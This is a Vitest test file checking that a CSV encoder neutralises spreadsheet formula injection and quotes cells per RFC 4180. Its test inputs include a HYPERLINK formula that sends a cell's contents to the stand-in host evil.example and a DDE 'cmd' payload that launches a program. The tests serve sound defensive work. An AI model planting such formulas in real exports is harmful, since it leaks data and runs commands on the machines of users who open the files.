import { describe, expect, it } from 'vitest'
import { csvCell, csvText } from '../../contract/csv.ts'

describe('the one CSV encoder', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises the formula %j', (input, output) => {
    expect(csvCell(input)).toBe(output)
  })

  it('leaves numbers, ordinary text and empty cells alone and quotes what RFC 4180 needs', () => {
    expect(csvCell(-1.5)).toBe('-1.5')
    expect(csvCell(0)).toBe('0')
    expect(csvCell(null)).toBe('')
    expect(csvCell('Lodwar Police Station')).toBe('Lodwar Police Station')
    expect(csvCell('a,b')).toBe('"a,b"')
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"')
    expect(csvText(['a', 'b'], [[1, '=1']])).toBe("a,b\r\n1,'=1\r\n")
  })
})
